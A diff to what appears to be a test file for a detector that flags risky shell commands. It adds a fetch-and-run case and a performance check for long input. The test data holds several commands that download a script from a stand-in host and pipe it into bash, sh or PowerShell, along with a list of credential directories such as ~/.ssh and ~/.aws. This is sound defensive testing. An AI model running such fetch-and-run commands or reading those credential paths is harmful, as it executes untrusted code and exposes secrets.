@@ -17,6 +17,7 @@ describe('[SEC-02] what is risky in a command', () => {
     ['bash', ['-c', 'wget -qO- https://x.example | sudo bash'], ['sudo runs it as somebody else', WEB]],
     ['bash', ['-c', 'bash <(curl -s https://x.example)'], [WEB]],
     ['sh', ['-c', 'sh -c "$(curl -s https://x.example)"'], [WEB]],
+    ['bash', ['-c', 'curl "https://x.example/i?a=1&b=2" | sh'], [WEB]],
     ['powershell', ['-Command', 'irm https://x.example/i.ps1 | iex'], [WEB]],
     ['powershell', ['-Command', 'iex (irm https://x.example/i.ps1)'], [WEB]],
     ['node', ['server.js', '--key', '~/.ssh/id_ed25519'], ['~/.ssh/id_ed25519 is a place of keys and sign-ins']],
@@ -38,6 +39,15 @@ describe('[SEC-02] what is risky in a command', () => {
   ])('nothing: %s %j', (command, args) => {
     expect(titles(command, ...args)).toEqual([]);
   });
+
+  test.each(['sh ', 'curl ', 'curl | ', 'sh (', ';A=1 ', '| '])(
+    'a text of 200,000 characters is read in a moment: %j',
+    (part) => {
+      const began = performance.now();
+      risksOf('bash', ['-c', part.repeat(200_000 / part.length)]);
+      expect(performance.now() - began).toBeLessThan(2000);
+    },
+  );
 
   test('many places are told up to five, each once', () => {
     const places = ['~/.ssh', '~/.ssh', '~/.aws', '~/.kube', '~/.gnupg', '~/.azure', '~/.netrc'];
